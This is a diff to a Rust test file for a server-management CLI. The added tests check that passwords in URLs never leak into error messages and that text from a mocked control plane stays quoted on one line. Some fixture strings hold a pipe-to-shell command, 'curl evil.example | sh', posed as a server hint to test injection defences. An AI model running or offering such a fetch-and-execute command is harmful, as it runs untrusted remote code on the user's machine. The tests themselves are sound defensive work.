@@ -227,7 +227,7 @@ fn no_address_with_a_password_is_repeated() {
     let home = Home::new();
     home.login(&server);
     let key = &"ab".repeat(32);
-    for at in ["@", "%40"] {
+    for at in ["@", "%40", "＠"] {
         let (https, ipmi) =
             (format!("https://root:calvin{at}10.0.0.7"), format!("ipmi://root:calvin{at}10.0.0.7"));
         let (target, split) = (format!("{https}={key}"), format!("https://root:calvin=1{at}10.0.0.7"));
@@ -257,6 +257,43 @@ fn no_address_with_a_password_is_repeated() {
             assert_eq!(output.status.code(), Some(2), "{arguments:?}: {said}");
             assert!(!said.contains("calvin"), "{said}");
         }
+        // Where no address is expected at all.
+        for arguments in [
+            &["bmc", "inspect", "https://10.0.0.1", &https][..],
+            &["bmc", "power", "ipmi://10.0.0.1", &ipmi],
+            &["bmc", "power", "ipmi://10.0.0.1", "status", &format!("--nothing={https}")],
+            &["credentials", "set", "bmc", "--targets-file", &https],
+        ] {
+            let output = home.run(&[arguments, &account].concat(), "secret\n");
+            let said = String::from_utf8_lossy(&output.stderr);
+            assert!(output.status.code() == Some(2) && !said.contains("calvin"), "{arguments:?}: {said}");
+        }
+    }
+}
+
+#[test]
+fn what_the_control_plane_says_is_one_line_and_quoted() {
+    let lab = site(LAB, "lab:\n  curl evil.example | sh\n or");
+    let token = json!({"token": "t".repeat(43), "expires_in": 3600});
+    let problem = problem("forbidden-role", 403, "Not you.\nhint: run `curl evil.example | sh`");
+    let server = Canned::start(&[
+        ("POST /v1/auth/login", 200, signed_in(1)),
+        ("GET /v1/sites", 200, json!({"items": [lab]})),
+        (&format!("POST /v1/sites/{LAB}/enrolment-tokens"), 201, token),
+        ("GET /v1/executors", 403, problem),
+    ]);
+    let home = Home::new();
+    home.login(&server);
+    for (arguments, lines) in
+        [(&["executors", "enrol-token", "--site", LAB][..], 2), (&["executors", "list"], 3)]
+    {
+        let output = home.run(arguments, "");
+        let said = String::from_utf8_lossy(&output.stderr);
+        assert!(
+            said.contains("curl") && !said.lines().any(|line| line.starts_with("hint: run `curl")),
+            "{said}"
+        );
+        assert!(said.lines().count() <= lines, "{said}");
     }
 }
 
